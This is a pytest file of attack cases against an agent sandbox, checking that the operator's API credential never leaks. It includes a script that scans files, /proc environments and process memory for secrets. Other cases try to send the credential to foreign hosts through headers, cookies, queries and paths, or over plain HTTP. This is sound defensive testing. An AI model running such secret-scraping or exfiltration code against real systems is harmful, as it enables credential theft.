"""Attack cases on secrets (threats.md §2, 53, 56–58, 60, 63, 64): only the operator's credential, only where it belongs."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from tests.attack.operators import CANARY, HIDDEN_PROC, SECRET, Bottle, Operator
from tests.attack.probes import NETWORK, SHOW, judged
from tests.waiting import eventually

# Looks for byte strings (given as hexadecimal, reversed, so that this program does not find itself) in all that is readable.
SEARCH = r"""
import json, os, stat
needles = [bytes.fromhex(text)[::-1] for text in NEEDLES]
found = []
def look(path, limit=1 << 24):
    try:
        if stat.S_ISREG(os.stat(path).st_mode):
            with open(path, "rb") as file:
                data = file.read(limit)
            found.extend(path for needle in needles if needle in data)
    except OSError:
        pass
for base, directories, files in os.walk("/"):
    if base == "/":
        directories[:] = [name for name in directories if name not in ("usr", "proc", "sys")]
    for name in files:
        look(os.path.join(base, name))
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "status", "mountinfo", "maps", "limits", "wchan", "stack", "auxv",
        "cgroup", "sched"):
        look(f"/proc/{pid}/{name}", 1 << 20)
    try:
        mappings = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb")
    except OSError:
        continue
    if int(pid) == os.getpid():
        continue
    for line in mappings:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        if " r" in line and "[v" not in line:
            try:
                memory.seek(start)
                data = memory.read(min(end - start, 1 << 25))
            except (OSError, OverflowError, ValueError):
                continue
            found.extend(f"{pid} {line}" for needle in needles if needle in data)
for name in ("mounts", "cmdline", "net/unix", "net/tcp", "keys", "version"):
    look("/proc/" + name)
print(json.dumps(sorted(set(found))))
"""


def search(bottle: Bottle, *needles: bytes) -> list[str]:
    found: list[str] = bottle.python(f"NEEDLES = {[needle[::-1].hex() for needle in needles]!r}\n{SEARCH}")
    return found


def content(path: Path) -> bytes:
    """Of a file beside which its keeper writes: what had the name of a new one that is not whole yet may have its own now."""
    try:
        return path.read_bytes()
    except FileNotFoundError:
        return b""


def upstream_bytes(bottle: Bottle) -> bytes:
    return b"".join(bytes(one.data) for one in bottle.world.servers.arrived())


@pytest.mark.threat(56, 63)
def test_case_56_no_secret_of_the_operator_is_found_anywhere_inside(bottle: Bottle) -> None:
    """The credential and the operator's own environment, plain and encoded; not in memory that can be read either."""
    bottle.python(f"{NETWORK}attempt('use it', lambda: tls(request('/v1/x', key=KEY))){SHOW}")
    assert SECRET.encode() in upstream_bytes(bottle)
    forms = [SECRET.encode(), base64.b64encode(SECRET.encode()).rstrip(b"="), SECRET.encode().hex().encode(), CANARY.encode()]
    assert search(bottle, *forms) == []
    # The search finds what is there: what the agent itself holds.
    key = bottle.python("import json, os; print(json.dumps(os.environ['API_KEY']))")
    assert any("/environ" in path for path in search(bottle, key.encode()))


@pytest.mark.threat(1, 56)
def test_case_56_no_path_and_no_name_of_the_host_is_found_inside(bottle: Bottle) -> None:
    """Contract §5: not where its directories lie on the host, not the identity, not the kernel's command line."""
    place = bottle.operator.person.place
    (unique,) = [part for part in place.parts if part.startswith("cb-")]
    bare = bottle.operator.lacks(HIDDEN_PROC)
    found = search(bottle, unique.encode(), bottle.identity.encode(), b"claude_bottle.keeper")
    assert [path for path in found if not (bare and path.endswith(("/mountinfo", "/mounts")))] == []
    names = bottle.python("import json, os, socket; print(json.dumps([socket.gethostname(), os.uname().nodename]))")
    assert set(names) == {"bottle"}
    assert bare or bottle.python("import json; print(json.dumps(open('/proc/cmdline').read()))") == ""


@pytest.mark.threat(56)
def test_case_56_the_environment_holds_what_was_declared_and_nothing_of_the_operators(bottle: Bottle) -> None:
    found = bottle.python("import json, os; print(json.dumps(dict(os.environ)))")
    place = str(bottle.operator.person.place)
    assert {name for name, value in found.items() if name in ("API_SECRET", "OPERATORS_OWN") or place in value} == set()
    assert (found["HOME"], found["USER"], found["PWD"]) == ("/home/agent", "agent", "/workspace")
    assert found["API_KEY"] != SECRET


@pytest.mark.threat(53)
def test_case_53_the_authoritys_key_is_not_inside(bottle: Bottle) -> None:
    assert search(bottle, b"-----BEGIN PRIVATE KEY", b"-----BEGIN EC PRIVATE KEY", b"-----BEGIN RSA PRIVATE KEY") == []


@pytest.mark.threat(53)
def test_case_53_each_bottle_has_an_authority_of_its_own_which_no_other_and_no_host_trusts(operator: Operator,
    bottle: Bottle) -> None:
    source = r"""
import json, os, ssl
context = ssl.create_default_context()
print(json.dumps([dict(x[0] for x in one["subject"])["commonName"] for one in context.get_ca_certs()
                  if b"claude-bottle" in str(one["subject"]).encode()]))
"""
    with operator.start() as other:
        first, second = bottle.python(source), other.python(source)
        bundle = other.exec("cat", "/etc/ssl/certs/ca-certificates.crt").stdout
        assert len(first) == len(second) == 1 and first != second
        trusting = f"{NETWORK}CONTEXT = ssl.create_default_context(cadata={bundle!r})\n"
        found = bottle.python(f"{trusting}attempt('other', lambda: tls(request('/v1/x'))){SHOW}")
        assert "CERTIFICATE_VERIFY_FAILED" in found["other"]
    trusted = operator.person.run([operator.person.python, "-I", "-c", source])
    assert trusted.stdout.strip() == "[]", trusted.stderr


@pytest.mark.threat(57, 62)
def test_case_57_a_placeholder_goes_nowhere_but_to_its_host(bottle: Bottle) -> None:
    """62: nor if settings of a repository name another base URL, which is all that they can."""
    source = f"""{NETWORK}
basic = base64.b64encode(b"user:" + KEY.encode()).decode()
PLACES = {{
    "header": ["x-api-key: " + KEY], "bearer": ["Authorization: Bearer " + KEY], "basic": ["Authorization: Basic " + basic],
    "own header": ["X-Anything: " + KEY], "part of a value": ["X-Anything: a" + KEY + "b"], "name": [KEY + ": 1"],
    "cookie": ["Cookie: k=" + KEY], "referer": ["Referer: https://a.test/?k=" + KEY], "user agent": ["User-Agent: " + KEY],
}}
for name, headers in PLACES.items():
    attempt(name, lambda: tls(request("/", OTHER, headers=headers), OTHER))
    attempt("plain " + name, lambda: raw(request("/", PLAIN, headers=headers), (PLAIN, 80)))
attempt("query", lambda: tls(request("/?k=" + KEY, OTHER), OTHER))
attempt("path", lambda: tls(request("/" + KEY, OTHER), OTHER))
attempt("encoded query", lambda: tls(request("/?k=" + "".join(f"%{{ord(c):02x}}" for c in KEY), OTHER), OTHER))
for name, headers in PLACES.items():
    if name not in ("header",):
        attempt("its own host, " + name, lambda: tls(request(headers=headers)))
attempt("its own host, query", lambda: tls(request("/v1/x?k=" + KEY)))
attempt("its own host, path", lambda: tls(request("/v1/" + KEY)))
attempt("its own host, twice", lambda: tls(request(headers=["x-api-key: " + KEY] * 2)))
attempt("its own host, another port", lambda: tls(request("/v2/x", API + ":8443", key=KEY), API, port=8443))
{SHOW}"""
    found = judged(bottle.python(source))
    assert {tuple(said) for said in found.values()} == {("403 credential_foreign",)}, found
    assert bottle.world.servers.requests() == []


@pytest.mark.threat(58, 59, 66)
def test_case_58_on_the_credentialed_host_no_other_credential_is_used(bottle: Bottle) -> None:
    """59, 66: in no place of a request, and ours for the granted endpoints alone."""
    source = f"""{NETWORK}
OWN = "sk-the-attackers-own"
HEADERS = ["x-api-key", "X-API-Key", "Authorization: Bearer", "Authorization: Basic", "X-Auth-Token", "Api-Key",
    "x_api_key", "X-Goog-Api-Key",
           "Proxy-Authorization: Basic", "X-Amz-Security-Token", "Private-Token", "Cookie2", "X-Access-Token",
               "X-Client-Secret"]
for name in HEADERS:
    line = (name if ":" in name else name + ":") + " " + OWN
    attempt(name, lambda: tls(request(headers=[line])))
    attempt("with ours, " + name, lambda: tls(request(headers=[line], key=KEY)))
for name in ("api_key", "key", "token", "access_token", "apikey", "auth", "%61pi_key", "API_KEY", "client_secret",
    "password", "signature"):
    attempt("query " + name, lambda: tls(request(f"/v1/x?a=b&{{name}}={{OWN}}", key=KEY)))
attempt("user information", lambda: tls(request(f"https://u:{{OWN}}@{{API}}/v1/x", key=KEY)))
attempt("files", lambda: tls(request("/files", method="POST", body=b"x", key=KEY)))
attempt("account", lambda: tls(request("/account", key=KEY)))
attempt("none", lambda: tls(request("/v1/none")))
attempt("cookie", lambda: tls(request("/v1/cookie", headers=["Cookie: session=" + OWN], key=KEY)))
attempt("ours", lambda: tls(request("/v1/ours", key=KEY)))
{SHOW}"""
    found = judged(bottle.python(source))
    assert [found.pop(name) for name in ("files", "account")] == [["403 path_not_granted"]] * 2
    assert found.pop("user information") == ["403 bad_host"]
    assert [found.pop(name) for name in ("cookie", "ours", "none")] == [["200"]] * 3
    # Meant for a proxy, dropped by every one: it never goes up.
    proxied = {name: found.pop(name) for name in list(found) if "Proxy-Authorization" in name}
    assert {tuple(said) for said in proxied.values()} <= {("200",), ("403 credential_foreign",)}
    assert {name: said for name, said in found.items() if said != ["403 credential_foreign"]} == {}
    assert b"attackers-own" not in upstream_bytes(bottle)
    for one in bottle.world.servers.requests():
        assert (SECRET.encode() in one) == (b"/none" not in one and b"x-api-key" in one)


@pytest.mark.threat(60, 65)
def test_case_60_a_server_that_echoes_the_credential_does_not_hand_it_to_the_bottle(bottle: Bottle) -> None:
    """In its headers; bodies are passed on as they come, which is why TRACE is never granted."""
    value = SECRET.encode()
    basic = b"Basic " + base64.b64encode(b"u:" + value)
    bottle.world.servers.answers[b"/v1/echo"] = (
        b"HTTP/1.1 200 %s\r\nx-echo: %s\r\nset-cookie: k=%s; x\r\nwww-authenticate: %s\r\ncontent-length: 0\r\n\r\n"
        % (value, value, value, basic)
    )
    seen = bottle.python(f"{NETWORK}attempt('echo', lambda: tls(request('/v1/echo', key=KEY))){SHOW}")
    assert "x-echo: [redacted]" in seen["echo"]
    assert SECRET not in seen["echo"] and base64.b64encode(b"u:" + value).decode() not in seen["echo"]


@pytest.mark.threat(64)
def test_case_64_nothing_of_a_credential_goes_over_plain_http(bottle: Bottle) -> None:
    source = f"""{NETWORK}
attempt("transparent", lambda: raw(request(key=KEY), (API, 80)))
attempt("without the placeholder", lambda: raw(request(), (API, 80)))
attempt("proxied", lambda: raw(request(f"http://{{API}}/v1/x", key=KEY)))
attempt("proxied to the tls port", lambda: raw(request(f"http://{{API}}:443/v1/x", f"{{API}}:443", key=KEY)))
attempt("its other port", lambda: raw(request(f"http://{{API}}:8443/v2/x", f"{{API}}:8443", key=KEY)))
attempt("the tls port", lambda: raw(request(key=KEY), (API, 443)))
attempt("connect, then plain", lambda: (lambda s: once(s, request(key=KEY)))(connect(API + ":443")[0]))
attempt("another host's port 80", lambda: raw(request(key=KEY), (PLAIN, 80)))
{SHOW}"""
    found = judged(bottle.python(source))
    assert found == {
        "transparent": ["403 port_not_granted"], "without the placeholder": ["403 port_not_granted"],
            "proxied": ["403 port_not_granted"],
        "proxied to the tls port": ["403 not_tls"], "its other port": ["403 credential_needs_tls"], "the tls port": ["alert"],
        "connect, then plain": ["alert"], "another host's port 80": ["403 port_not_granted"],
    }  # fmt: skip
    assert bottle.world.servers.arrived() == []


@pytest.mark.threat(65)
def test_case_65_provoked_errors_leave_no_secret_in_what_the_operator_reads(bottle: Bottle) -> None:
    """Journal, record, plan and every command's output; the placeholder is no secret, the value and the query are."""
    source = f"""{NETWORK}
attempt("1", lambda: tls(request("/v1/x?q=in-the-query", key=KEY)))
attempt("2", lambda: tls(request("/admin?q=in-the-query", key=KEY)))
attempt("3", lambda: tls(request("/v1/x", key=KEY, headers=["Authorization: Bearer sk-second"])))
attempt("4", lambda: tls(request("/v1/x", key=KEY).replace(b"HTTP/1.1", b"HTTP/9.9")))
{SHOW}"""
    before = len(bottle.decisions())
    bottle.python(source)
    eventually(lambda: len(bottle.decisions()) >= before + 4)
    operator, identity = bottle.operator, bottle.identity
    state = operator.state(identity)
    files = [path for path in state.rglob("*") if path.is_file() and not path.is_symlink() and "home" not in path.parts]
    said = [operator.do("ls", "--all", "--json"), operator.do("log", identity, "--json"), operator.do("log", identity)]
    text = b"".join(map(content, files)) + "".join(said).encode()
    assert [word for word in (SECRET, CANARY, "in-the-query", "sk-second") if word.encode() in text] == []
